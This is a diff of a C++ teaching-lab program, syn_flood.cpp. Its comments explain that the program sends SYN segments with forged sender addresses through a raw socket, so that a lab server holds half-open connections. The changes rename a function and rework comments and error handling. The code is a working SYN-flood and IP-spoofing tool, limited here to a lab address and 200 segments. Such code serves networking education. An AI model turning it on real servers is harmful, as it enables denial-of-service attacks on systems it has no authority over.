@@ -1,11 +1,11 @@
 // syn_flood.cpp - SYNs from hosts that do not exist: connections that stay half open.
 //
 // Look for
-//   [1] a raw socket with the IP header made by us: any sender may stand in it;
-//   [2] its SYN ACK goes to nobody, and the server keeps the half-open connection until it
-//       has repeated that often enough;
-//   [3] only the server of the lab can be meant, and by no more than 200 segments;
-//   [4] the host whose address it is has no such connection, and answers the SYN ACK with RST.
+//   [1] a raw socket for which we make the IP header: it can name any sender;
+//   [2] the SYN ACK goes to nobody, and the server keeps the half-open connection until it has
+//       repeated the SYN ACK often enough;
+//   [3] it reaches only the server of the lab, and with no more than 200 segments;
+//   [4] a host that exists has no such connection, and answers the SYN ACK with RST.
 //
 // Usage:   syn_flood [PORT [COUNT [strangers | own]]]    on client in ./course lab wire
 // Manual:  raw(7) ip(7) tcp(7)
@@ -24,7 +24,7 @@ constexpr packet::Ip client{10, 0, 4, 1};
 constexpr packet::Ip server{10, 0, 4, 2};  // [3]
 constexpr packet::Ip stranger{10, 0, 5, 1};
 
-packet::Buffer syn(const packet::Ip& sender, std::uint16_t sender_port, std::uint16_t port) {
+packet::Buffer make_syn(const packet::Ip& sender, std::uint16_t sender_port, std::uint16_t port) {
     packet::Packet packet;
     auto& ip = packet.ipv4.emplace();
     ip.protocol = packet::TCP;
@@ -38,18 +38,18 @@ packet::Buffer syn(const packet::Ip& sender, std::uint16_t sender_port, std::uin
     return packet::encode(packet);
 }
 
-// A raw socket from client to server: no other host has client's address.
+// bind() works only on the lab's client: no other host has its address.
 net::Fd raw_socket() try {
     auto socket = sys::socket(AF_INET, SOCK_RAW, IPPROTO_RAW);  // [1]
     sys::bind(socket, net::parse("10.0.4.1", 0));               // [3]
     sys::connect(socket, net::parse("10.0.4.2", 0));
     return socket;
 } catch (const std::system_error& error) {
-    if (error.code() != std::errc::address_not_available) {
-        throw;
+    if (error.code() == std::errc::address_not_available) {
+        throw std::runtime_error{std::string{error.what()} +
+                                 "\nthis runs on client in ./course lab wire"};
     }
-    throw std::runtime_error{error.what() +
-                             std::string{"\nthis runs on client in ./course lab wire"}};
+    throw;
 }
 
 void flood(app::Args args) {
@@ -59,7 +59,7 @@ void flood(app::Args args) {
     const auto socket = raw_socket();
     for (long i = 0; i < count; ++i) {
         const auto sender_port = static_cast<std::uint16_t>(10'000 + i);
-        (void)sys::send(socket, syn(sender, sender_port, port));  // [2] [4]
+        (void)sys::send(socket, make_syn(sender, sender_port, port));  // [2] [4]
     }
     app::say(count, " SYNs sent");
 }
